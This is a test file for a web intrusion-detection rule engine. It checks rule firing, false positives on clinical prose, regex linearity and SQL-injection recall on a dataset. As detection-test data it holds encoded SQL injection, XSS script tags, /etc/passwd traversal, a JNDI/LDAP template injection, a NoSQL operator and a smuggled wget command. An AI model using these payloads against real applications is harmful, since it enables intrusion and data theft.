// biome-ignore-all lint/suspicious/noTemplateCurlyInString: samples of attacks hold what template engines would expand
import { readFileSync } from "node:fs";
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import {
  createInspector,
  parseRequest,
  RULES,
  type Rule,
  ruleHash,
  ruleSetHash,
} from "../../../host/ids/index.ts";
import type { ParsedRequest } from "../../../host/ids/request.ts";
import { evaluationFile } from "../../support/data.ts";
import { worstBacktracking } from "./backtracking.ts";

const PADDING = "all is well here today ".repeat(10);

/** A request that carries a sample where the rule looks. */
function carry(rule: Rule, sample: string): Pick<ParsedRequest, "parts"> {
  if (rule.places?.includes("protocol")) {
    const parts: ParsedRequest["parts"] = [
      { place: "protocol", name: "", value: sample, canon: sample, rounds: 0 },
    ];
    return { parts };
  }
  const place = rule.places?.find((one) => one !== "path") ?? rule.places?.[0] ?? "form";
  switch (place) {
    case "path":
      return parseRequest({ m: "GET", u: sample });
    case "header":
      return parseRequest({ m: "GET", u: "/", headers: { "user-agent": sample } });
    case "name":
      return parseRequest({ m: "POST", u: "/", b: JSON.stringify({ [sample]: 1 }) });
    case "multipart":
      return parseRequest({
        m: "POST",
        u: "/",
        headers: { "content-type": "multipart/form-data; boundary=x" },
        b: `--x\r\ncontent-disposition: form-data; name="a"; filename="${sample}"\r\n\r\nhello\r\n--x--`,
      });
    default: {
      // Percent signs of a sample are meant as they stand on the wire.
      const value = sample.includes("%")
        ? sample.replace(/[&+#]/g, encodeURIComponent)
        : encodeURIComponent(sample);
      return place === "query"
        ? parseRequest({ m: "GET", u: `/?value=${value}` })
        : parseRequest({
            m: "POST",
            u: "/",
            b: `value=${value}`,
            headers: { "content-type": "application/x-www-form-urlencoded" },
          });
    }
  }
}

describe.each(RULES.map((rule) => [rule.id, rule] as const))("rule %s", (_id, rule) => {
  const inspector = createInspector([rule]);
  it("ships samples of both kinds", () => {
    expect(rule.fires.length).toBeGreaterThan(0);
    expect(rule.quiet.length).toBeGreaterThan(0);
    expect(rule.confidence).toBeGreaterThan(0);
    expect(rule.confidence).toBeLessThan(1);
  });
  it.each(rule.fires)("fires on %j", (sample) => {
    expect(inspector.inspect(carry(rule, sample).parts).map((hit) => hit.rule)).toEqual([rule.id]);
  });
  it("finds them within a long text as well, where the words are looked for first", () => {
    const anchored = rule.pattern.source.startsWith("^");
    const missed = rule.fires.filter(
      (sample) => !anchored && !inspector.inspect(carry(rule, `${PADDING}${sample}`).parts).length,
    );
    // Samples that only mean something at the beginning of a value are the minority.
    expect(missed.length).toBeLessThanOrEqual(rule.fires.length / 2);
  });
  it.each(rule.quiet)("is quiet on %j", (sample) => {
    expect(inspector.inspect(carry(rule, sample).parts)).toEqual([]);
  });
  it("is linear: no quantifier is unbounded, and the steps from one start are bounded", () => {
    expect(rule.pattern.source).not.toMatch(/(?<!\\)(?:\\\\)*(?:\{\d+,\})/);
    expect(worstBacktracking(rule.pattern)).toBeLessThan(Number.POSITIVE_INFINITY);
    expect(rule.pattern.global || rule.pattern.sticky).toBe(false);
  });
});

describe("the rules together", () => {
  const inspector = createInspector();
  const hits = (body: string) =>
    inspector.inspect(parseRequest({ m: "POST", u: "/notes", b: JSON.stringify({ note: body }) }).parts);

  it("have names of their own", () => {
    expect(new Set(RULES.map(({ id }) => id)).size).toBe(RULES.length);
  });

  it("are named by what they do: any change of a rule changes both hashes, order does not", () => {
    const [first, ...rest] = RULES as [Rule, ...Rule[]];
    for (const changed of [
      { ...first, version: first.version + 1 },
      { ...first, confidence: 0.5 },
      { ...first, pattern: /other/ },
      { ...first, places: ["json" as const] },
    ]) {
      expect(ruleHash(changed)).not.toBe(ruleHash(first));
      expect(ruleSetHash([changed, ...rest])).not.toBe(ruleSetHash());
    }
    expect(ruleSetHash([...RULES].reverse())).toBe(ruleSetHash());
    expect(ruleHash(first)).toMatch(/^[0-9a-f]{64}$/);
  });

  it.each([
    "Please select one: no known drug allergies; drop in blood pressure on standing, update the family.",
    "Mr. O'Brien's wife and Mrs. O'Connor's son said he was \"fine\" and \"well\".",
    "Give <5 mg; if SpO2 <90 or RR >24 call. Weight 70 kg & height 5'11\".",
    "II/VI systolic murmur; ls/ms intact, and 1/2 tablet po bid; and 2 or 3 more if needed.",
    "The union of the fracture was delayed; select films were reviewed from the outside hospital.",
    "Sleep (about 5 hours) is poor. Alert and oriented x3. Count (per day) 4.",
    "T 38.5, BP=120/80 and HR=90 or above; where pain is 7 or more, insert IV.",
    "Location: left arm. Host: none. Content: 5% (n=12)(p=0.05).",
    "Patient -- who was seen yesterday -- denies # of symptoms; table 1; case when seen.",
    "C/O chest pain w/o radiation, s/p CABG '98, r/o MI; h/o HTN; echo pending; cat scratch; at home",
    "He takes 1) aspirin, 2) metformin; 3) lisinopril... order by phone.",
  ])("leave clinical prose alone: %j", (text) => {
    expect(hits(text)).toEqual([]);
  });

  it.each([
    ["percent twice", "/?a=%2527%2520or%25201%253D1--"],
    ["overlong UTF-8", "/?a=%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd"],
    ["%u", "/?a=%u003cscript%u003e"],
    ["entities", "/?a=%26lt%3Bscript%26gt%3B"],
    ["entities by number", "/?a=%26%2360%3Bscript%26%2362%3B"],
    ["fullwidth", `/?a=${encodeURIComponent("＜script＞")}`],
    ["escapes", "/?a=%5Cu003cscript%5Cx3e"],
    ["case and comments", "/?a=1/**/uNiOn/*x*/SeLeCt/**/null,null"],
    ["quotes inside a program's name", "/?a=;w'g'et%20http://x"],
  ])("see through %s", (_name, u) => {
    expect(inspector.inspect(parseRequest({ m: "GET", u }).parts)).not.toEqual([]);
  });

  it("look into JSON keys, nested values, cookies, headers and XML", () => {
    const found = (request: Parameters<typeof parseRequest>[0]) =>
      inspector.inspect(parseRequest(request).parts).map(({ attack }) => attack);
    const json = { "content-type": "application/json" };
    expect(found({ m: "POST", u: "/", headers: json, b: '{"user":{"$ne":null}}' })).toContain("nosql");
    expect(found({ m: "POST", u: "/", headers: json, b: '{"a":[{"b":"<script>x</script>"}]}' })).toContain(
      "xss",
    );
    expect(found({ m: "GET", u: "/", headers: { cookie: "a=1; b=%27%20or%201%3D1--" } })).toContain("sql");
    expect(found({ m: "GET", u: "/", headers: { referer: "x${jndi:ldap://y}" } })).toContain("template");
    expect(
      found({ m: "POST", u: "/", headers: { "content-type": "text/xml" }, b: "<a b='../../etc/passwd'/>" }),
    ).toContain("path");
    expect(
      found({
        m: "POST",
        u: "/",
        headers: { "content-type": "text/xml" },
        b: "<?xml version='1.0'?><note><text>well</text></note>",
      }),
    ).toEqual([]);
  });
});

describe("the rules on data of others", () => {
  const notes = evaluationFile("text/mtsamples.csv");
  it.skipIf(notes === null)("raise no alarm on clinical notes", () => {
    const inspector = createInspector();
    const records = Papa.parse<Record<string, string>>(readFileSync(notes as string, "utf8"), {
      header: true,
    }).data;
    const alarms = records.filter(
      ({ transcription }) =>
        inspector.inspect(
          parseRequest({ m: "POST", u: "/notes", b: JSON.stringify({ transcription }) }).parts,
        ).length > 0,
    );
    expect(records.length).toBeGreaterThan(100);
    expect(alarms.length).toBeLessThanOrEqual(records.length / 200);
  });

  const injections = evaluationFile("http/modseclearn_dev.jsonl");
  it.skipIf(injections === null)("find nine in ten SQL injections", () => {
    const inspector = createInspector();
    const attacks = readFileSync(injections as string, "utf8")
      .split("\n")
      .filter((line) => line !== "")
      .map((line) => JSON.parse(line) as { y: number; q: string })
      .filter(({ y }) => y === 1);
    const found = attacks.filter(
      ({ q }) => inspector.inspect(parseRequest({ m: "GET", u: `/?${q}` }).parts).length > 0,
    );
    expect(found.length / attacks.length).toBeGreaterThan(0.9);
  });
});
